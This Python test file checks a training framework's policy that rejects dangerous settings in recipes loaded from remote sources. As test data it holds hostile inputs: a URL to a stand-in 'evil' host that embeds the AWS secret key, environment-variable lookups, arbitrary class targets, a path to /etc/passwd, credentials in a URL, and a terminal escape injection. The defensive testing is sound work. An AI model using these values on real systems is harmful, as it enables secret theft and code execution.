"""What a recipe may say, by its place."""

import fsspec
import pytest

from dtrain.cluster import Cluster
from dtrain.compose import compose
from dtrain.config.word import Word, text
from dtrain.errors import WordsError
from dtrain.recipe.locate import Place
from dtrain.recipe.policy import refused
from dtrain.resolve import resolve

LOCAL, REMOTE, OWN = (
    Place("mine.yaml", "local"),
    Place("https://host/mine.yaml", "remote"),
    Place("recipes/digits.yaml", "own"),
)


def problems(key: str, value: object, place: Place) -> list[str]:
    return list(refused(Word(key, value, text(value), f"{place}:1"), place))


@pytest.mark.parametrize("place", [LOCAL, REMOTE, OWN])
@pytest.mark.parametrize("key", ["trust", "out", "out_options.key", "hydra.searchpath", "hydra.run.dir", "sweep.out"])
def test_no_recipe_says_whom_to_trust_or_where_to_write(key: str, place: Place) -> None:
    name = key if key == "sweep.out" else key.split(".")[0]
    (problem,) = problems(key, "/x", place)
    assert f"{name} cannot come from a recipe. Type it on the command line." in problem


def test_a_closed_key_is_one_fault() -> None:
    (problem,) = problems("data.cache", "/x", REMOTE)
    assert "data.cache cannot come from a recipe from elsewhere" in problem


FOREIGN = {
    "loop": "mine.loop",
    "launcher.address": "evil:1",
    "data.cache": "/home",
    "data.dataset.cache": "/home",
    "launcher._target_": "mine.Launcher",
    "backend._target_": "mine.Backend",
    "checkpoint._target_": "mine.Save",
    "logger.mine._target_": "mine.Logger",
    "hook.mine._target_": "mine.Hook",
    "hook.fault._target_": "dtrain.testing.faults.AtStep",
    "data.path": "https://evil/${oc.env:AWS_SECRET_ACCESS_KEY}",
    "data.root": "${ oc.env:HOME }",
    "data.name": "${oc.decode:x}",
    "model.a": "\\${oc.env:HOME}",
    "model.b": "${model.${oc.env:HOME}}",
    "model.c": ["x", {"d": "${env:HOME}"}],
    "model.e": "${out}",
    "model.f": "${out_options.key}",
    "model.g": "${secret:logger.x.key}",
    "model.h": "$${model.a}{oc.env:HOME}${",
    "init": "s3://key:secret@bucket/run",
    "data.url": "https://host/a?X-Amz-Signature=abcdef",
    "generate.prompt": "\x1b]0;owned\x07",
    "model.blocks": [{"_target_": "x"}, {"path": "${oc.env:HOME}"}],
}


@pytest.mark.parametrize("key", FOREIGN)
def test_a_recipe_from_elsewhere_stays_off_the_machine(key: str) -> None:
    sentences = problems(key, FOREIGN[key], REMOTE)
    assert sentences and all("from elsewhere" in one or "of elsewhere" in one for one in sentences)
    assert all(one.isprintable() for one in sentences)


@pytest.mark.parametrize("key", set(FOREIGN) - {"generate.prompt"})
def test_a_recipe_of_this_machine_may(key: str) -> None:
    assert problems(key, FOREIGN[key], LOCAL) == []


@pytest.mark.parametrize(
    ("key", "value"),
    [
        ("loop", "dtrain.train.train"), ("launcher.address", None), ("data.cache", None), ("model._target_", "mine.Net"), ("hook.sample._target_", "dtrain.hook.sample.Sample"),
        ("model.width", "${model.heads}"), ("generate.prompt", "costs $5 {x}"), ("data.path", "https://host/text"), ("data.dataset.key", "${secret:data.dataset.key}"),
        ("model.name", "a\u200db é 語"),
    ],
)  # fmt: skip
def test_a_recipe_from_elsewhere_says_what_a_model_learns(key: str, value: object) -> None:
    assert problems(key, value, REMOTE) == []


@pytest.mark.parametrize(
    "small",
    [
        "out=/etc",
        "trust=[os]",
        "hydra.searchpath=[x]",
        "recipe=evil.yaml",
        "++out=x",
        "-m",
        "steps",
        "expect.small=[x]",
        "a b=1",
        "~model=x",
    ],
)
def test_what_makes_a_recipe_small_obeys_the_same(small: str) -> None:
    assert problems("expect.small", [small], OWN)


def test_small_words_are_judged_as_those_of_their_place() -> None:
    assert problems("expect.small", ["loop=mine.loop"], REMOTE)
    assert problems("expect.small", ["steps=50", "model.layers=2"], REMOTE) == []


@pytest.mark.parametrize(
    ("text", "cure"),
    [
        ("hook: {mine: {_target_: mine.Hook}}", "hook.mine._target_=mine.Hook trust=[mine]"),
        (
            "evaluate: {metrics: [{_target_: mine.F1, n: 3}]}",
            "'evaluate.metrics=[{_target_:mine.F1,n:3}]' trust=[mine]",
        ),
        ("data: {path: [a.txt, /etc/passwd]}", "data.path=<value>"),
        ("model: {trust_remote_code: true}", "model.trust_remote_code=<value>"),
        ("model: {_target_: mine.Net}", "trust=[mine]"),
    ],
)
def test_a_refusal_says_what_is_typed_and_to_read_the_code_first(text: str, cure: str) -> None:
    fsspec.filesystem("memory").pipe_file("/strange.yaml", text.encode())
    with pytest.raises(WordsError) as caught:
        resolve(compose(["recipe=memory://strange.yaml"]), Cluster(0, 1))
    told = str(caught.value)
    assert cure in told
    before = told.partition(cure)[0]
    assert "<value>" in cure or "ead the source of mine" in before
